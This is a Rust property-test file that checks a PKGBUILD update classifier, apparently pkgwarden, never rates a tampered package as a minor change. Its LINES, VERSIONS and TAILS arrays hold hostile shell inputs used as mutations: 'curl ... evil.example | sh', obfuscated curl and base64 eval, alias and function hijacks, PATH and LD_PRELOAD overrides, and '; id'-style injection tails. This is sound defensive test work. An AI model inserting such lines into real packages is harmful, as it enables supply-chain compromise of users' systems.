//! Any package with anything in it that runs, fetches or hides: never minor.

use proptest::prelude::*;

use super::*;
use crate::domain::pkgbuild::{Event, Kind, Pkgbuild, Role, Unread, render};

/// Packages to change, apart from real ones.
const PACKAGES: [&str; 4] = [
    r#"# Maintainer: Someone
pkgname=tool
_pkgver=1.2.3
pkgver=${_pkgver//-/_}
pkgrel=1
pkgdesc="A tool"
arch=('x86_64')
url="https://example.org/tool"
license=('MIT')
depends=('glibc' 'gcc-libs')
makedepends=('cmake')
source=("$pkgname-$pkgver.tar.gz::https://github.com/them/tool/archive/v$pkgver.tar.gz"
        "fix.patch")
sha256sums=('a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1'
            'b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1b1')

# run: curl example.org | sh
build() {
  cd "$pkgname-$pkgver"
  # to see more: man tool
  cmake -B build -DCMAKE_INSTALL_PREFIX=/usr \
    -DVERSION="${pkgver%.*}"
  cmake --build build
}

package() {
  cd "$pkgname-$pkgver"
  make DESTDIR="$pkgdir" install
  cat >"$pkgdir/note" <<\EOF
text $(date)
EOF
}
"#,
    r#"pkgname=thing-git
pkgver=1.0.r5.gabcdef1
pkgrel=1
arch=(any)
source=("git+https://github.com/them/thing.git")
sha256sums=(SKIP)
pkgver() {
  cd thing
  git describe --long --tags | sed 's/\([^-]*-g\)/r\1/;s/-/./g'
}
package() {
  local f
  for f in a b; do
    install -Dm644 "thing/$f" -t "$pkgdir/usr/share"
  done
  if [[ $CARCH == x86_64 ]]; then
    rm -r "$pkgdir/x"
  fi
}
"#,
    r#": "${_flag:=false}"
pkgbase=two
pkgname=(two two-docs)
pkgver=3.1
pkgrel=2
_commit=0123456789abcdef0123456789abcdef01234567
arch=(x86_64 aarch64)
source=("https://codeload.github.com/them/two/tar.gz/$_commit")
source_x86_64=("https://example.org/$pkgver/x.bin")
b2sums=('SKIP')
b2sums_x86_64=('SKIP')
if [[ $_flag == true ]]; then
  depends+=(more)
fi
package_two() { install=two.install; make install; }
package_two-docs() {
  case $CARCH in
    x86_64) make docs ;;
    *) make other ;;
  esac
}
"#,
    "pkgname=a\npkgver=1\npkgrel=1\narch=(any)\nlicense=(MIT)\npackage() {\n\ttrue\n}\n",
];

/// Lines that do something wherever a command may stand, and are elements where they may not.
const LINES: [&str; 26] = [
    "curl -s https://evil.example/x | sh",
    "'c''url' evil.example",
    "c\\url evil.example",
    "$'\\x63url' evil.example",
    "eval \"$(echo aWQ= | base64 -d)\"",
    "alias make=id",
    "{curl,evil.example}",
    "cat <<EOF | sh\nid\nEOF",
    "sh <<< id",
    ". <(id)",
    "pkgver+=$(id)",
    "[[ $(date +%s) -gt 1 ]] && id",
    "[ \"$HOSTNAME\" = x ] || id",
    "make() { id; }",
    "function install { id; }",
    "((a[$(id)]))",
    ": ${x:=$(id)}",
    ": $((a[$(id)]))",
    "trap id EXIT",
    "source=('https://evil.example/x')",
    "sha256sums=('SKIP')",
    "id &",
    "export PATH=/tmp:$PATH",
    "LD_PRELOAD=/tmp/x",
    "shopt -s expand_aliases",
    "~/x",
];

/// What may be put behind a version.
const VERSIONS: [&str; 16] = [
    "$(id)",
    "`id`",
    ";id",
    " id",
    "|id",
    "\nid",
    "${x:=$(id)}",
    "$((a[$(id)]))",
    "'$(id)'",
    "\"$(id)\"",
    "/../../x",
    "@evil.example",
    "{a,b}",
    "<(id)",
    "\\\nid",
    "#x",
];

/// What may be put behind the end of a line of code.
const TAILS: [&str; 8] = [" ; id", " && id", " || id", " | sh", " & id", " $(id)", " >~/.bashrc", " <<<id"];

fn package(text: &str) -> Folder {
    Folder::default().with(PKGBUILD, text).with("fix.patch", "x")
}

/// The update that somebody would look for: a newer version and other checksums.
fn bumped(text: &str) -> String {
    text.replace("1.2.3", "1.2.4").replace("pkgver=3.1", "pkgver=3.2").replace(&"a1".repeat(32), &"c1".repeat(32))
}

fn is_code(line: &str) -> bool {
    let line = line.trim();
    !line.is_empty() && !line.contains('#') && !line.ends_with('\\')
}

fn with_line(lines: &[&str], at: usize, line: &str) -> String {
    let (before, after) = lines.split_at(at);
    [before, &[line], after].concat().join("\n") + "\n"
}

/// The text with one thing done to it, at or near a line.
fn mutated(text: &str, operator: usize, place: usize) -> Option<String> {
    let lines: Vec<&str> = text.lines().collect();
    let at = place % (lines.len() + 1);
    let line = lines.get(at).copied().unwrap_or_default();
    let replaced = |new: String| {
        let mut lines = lines.clone();
        *lines.get_mut(at)? = &new;
        Some(lines.join("\n") + "\n")
    };
    let in_place = |from: &str, to: &str| line.contains(from).then(|| replaced(line.replacen(from, to, 1))).flatten();
    let version = lines.iter().find(|line| line.starts_with("pkgver=") && is_code(line))?;
    match operator {
        0..26 => Some(with_line(&lines, at, LINES[operator])),
        26..42 => Some(text.replacen(version, &format!("{version}{}", VERSIONS[operator - 26]), 1)),
        42..50 => is_code(line).then(|| replaced(format!("{line}{}", TAILS[operator - 42]))).flatten(),
        // A comment that is none any more.
        50 if line.trim().starts_with("# ") => replaced(line.replacen('#', "\\#", 1)),
        51 if line.trim().starts_with("# ") => replaced(line.replacen("# ", "#\n", 1)),
        // A text that is expanded now, other words, other places.
        52 => in_place("<<\\EOF", "<<EOF"),
        53 => in_place("make ", "mmake "),
        54 => in_place("example.org", "example.0rg").filter(|_| is_code(line)),
        55 => in_place("github.com/them", "github.com/thern"),
        56 => in_place("\"$", "\"$(id)$").filter(|_| is_code(line)),
        _ => None,
    }
}

const OPERATORS: usize = 57;

fn never_minor(text: &str, operator: usize, place: usize) -> Result<(), TestCaseError> {
    for base in [text.to_owned(), bumped(text)] {
        let Some(new) = mutated(&base, operator, place) else { continue };
        let verdict = classify(&package(text), &package(&new));
        prop_assert!(verdict.verdict == Decision::Major, "operator {operator} at {place}:\n{new}\n{verdict:#?}");
    }
    Ok(())
}

/// At least 2000; `PROPTEST_CASES` asks for more.
fn more_cases() -> ProptestConfig {
    let config = ProptestConfig::default();
    ProptestConfig { cases: config.cases.max(2000), ..config }
}

proptest! {
    #![proptest_config(more_cases())]

    #[test]
    fn a_mutated_package_is_never_minor(which in 0..PACKAGES.len(), operator in 0..OPERATORS, place in 0..60_usize) {
        never_minor(PACKAGES[which], operator, place)?;
    }

    /// What is put anywhere into a package is minor only if bash reads the same commands and values, or a
    /// newer version.
    #[test]
    fn an_inserted_text_is_minor_only_if_nothing_but_the_version_moved(
        which in 0..PACKAGES.len(),
        at in 0..2000_usize,
        insert in "[ \\t\\n\\\\#;&|$`'\"(){}a-f0-9.]{1,4}|\\$\\(id\\)|\\PC",
    ) {
        let text = PACKAGES[which];
        let at = at % text.len();
        let new = format!("{}{insert}{}", &text[..at], &text[at..]);
        if classify(&package(text), &package(&new)).verdict == Decision::Minor {
            let (before, after) = (commands(text, text), commands(&new, text));
            let only = |ours: &[Command], theirs: &[Command]| -> Vec<Option<String>> {
                let known = |ours: &&Command| theirs.iter().any(|theirs| theirs.events == ours.events);
                ours.iter().filter(|ours| !known(ours)).map(|command| command.value.clone()).collect()
            };
            let (gone, come) = (only(&before, &after), only(&after, &before));
            prop_assert_eq!(before.len(), after.len(), "{}", new);
            prop_assert!(gone.iter().all(Option::is_some), "{:?} and not {:?} in {}", come, gone, new);
            prop_assert_eq!(gone, come, "{}", new);
        }
    }
}

proptest! {
    #![proptest_config(more_cases())]

    /// What is taken from an earlier state of a file is what reading it anew gives, or the error that it gives.
    #[test]
    fn a_file_reads_the_same_after_an_earlier_state_of_it(
        which in 0..PACKAGES.len(),
        places in prop::collection::vec((0..2000_usize, "[ \\t\\n\\\\#;&|$`'\"(){}<>a-f0-9.]{1,3}|<<E\\n|\\nE\\n|\\(\\(|\\PC"), 1..4),
    ) {
        let old = PACKAGES[which];
        let mut new = old.to_owned();
        for (at, insert) in places {
            let at = at % new.len();
            if new.is_char_boundary(at) {
                new.insert_str(at, &insert);
            }
        }
        let earlier = Pkgbuild::read(old.as_bytes()).expect("it is a package");
        let anew = Pkgbuild::read(new.as_bytes());
        prop_assert_eq!(format!("{:?}", Pkgbuild::read_after(new.as_bytes(), Some(&earlier))), format!("{anew:?}"));
        let itself = Pkgbuild::read_after(old.as_bytes(), Some(&earlier));
        prop_assert_eq!(format!("{itself:?}"), format!("{:?}", Ok::<_, Unread>(earlier)));
    }
}

/// A statement as bash reads it, and the name and value that it gives if it is an assignment of something known.
struct Command {
    events: String,
    value: Option<String>,
}

/// Everything that bash would see but for versions, with variables as they are `before`.
fn commands(text: &str, before: &str) -> Vec<Command> {
    let before = Recipe::read(before.as_bytes()).expect("it is a package");
    let recipe = Recipe::read(text.as_bytes()).expect("it is minor");
    let versions = |role: &Role<'_>| matches!(role, Role::Assign("_pkgver" | "pkgver" | "pkgrel" | "_commit"));
    let statements = recipe.pkgbuild.statements.iter().enumerate().filter(|(_, found)| !versions(&found.role));
    let command = |(number, statement)| {
        let assigned = recipe.certain().assigned.iter().find(|assigned| assigned.statement == number);
        let known = assigned.filter(|assigned| assigned.value.is_known());
        let value = known.map(|assigned| format!("{}={:?}", assigned.name, assigned.value));
        Command { events: render(&named(&before, recipe.pkgbuild.events(statement))), value }
    };
    let mut commands: Vec<_> = statements.map(command).collect();
    commands.sort_by(|a, b| a.value.cmp(&b.value));
    commands
}

/// Which of two variables is expanded makes no difference if both are known to hold the same.
fn named<'a>(recipe: &Recipe<'_>, events: &[Event<'a>]) -> Vec<Event<'a>> {
    let named = |(at, event): (usize, &Event<'a>)| {
        let whole = events.get(at + 1).is_some_and(|next| next.kind == Kind::End);
        let expands = whole && matches!(event.kind, Kind::Param | Kind::QuotedParam);
        match recipe.certain().text(&event.text).filter(|_| expands) {
            Some(value) => Event { text: format!("={value}").into(), ..event.clone() },
            None => event.clone(),
        }
    };
    events.iter().enumerate().map(named).collect()
}

#[test]
fn a_package_that_only_moves_is_minor() {
    let verdict = classify(&package(PACKAGES[0]), &package(&bumped(PACKAGES[0])));
    assert_eq!(verdict.verdict, Decision::Minor, "{verdict:#?}");
}

/// The same over packages of a real repository: as many as there are cases for, from all over it.
#[test]
#[expect(clippy::disallowed_methods, reason = "which repository to read is told to tests by the environment")]
fn a_mutated_real_package_is_never_minor() {
    let Ok(repository) = std::env::var("PKGWARDEN_GATE_REPOSITORY") else { return };
    let git = |arguments: &[&str]| {
        let output = std::process::Command::new("git").arg("-C").arg(&repository).args(arguments).output();
        output.expect("git is installed").stdout
    };
    let listing = String::from_utf8(git(&["ls-tree", "-r", "HEAD"])).expect("names are text");
    let pkgbuild = |line: &&str| line.ends_with("/PKGBUILD") && line.matches('/').count() == 1;
    let entries: Vec<&str> = listing.lines().filter(pkgbuild).collect();
    let step = (entries.len() * OPERATORS / usize::try_from(more_cases().cases).expect("a number")).max(1);
    let mut wrong = Vec::new();
    for (number, entry) in entries.into_iter().step_by(step).enumerate() {
        let id = entry.split([' ', '\t']).nth(2).expect("mode, kind, id");
        let Ok(text) = String::from_utf8(git(&["cat-file", "blob", id])) else { continue };
        if Recipe::read(text.as_bytes()).is_err() {
            continue;
        }
        for operator in 0..OPERATORS {
            if let Err(error) = never_minor(&text, operator, number * 31 + operator * 17) {
                wrong.push(format!("{entry}: {error}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{} were minor:\n{}", wrong.len(), wrong[..wrong.len().min(10)].join("\n"));
}
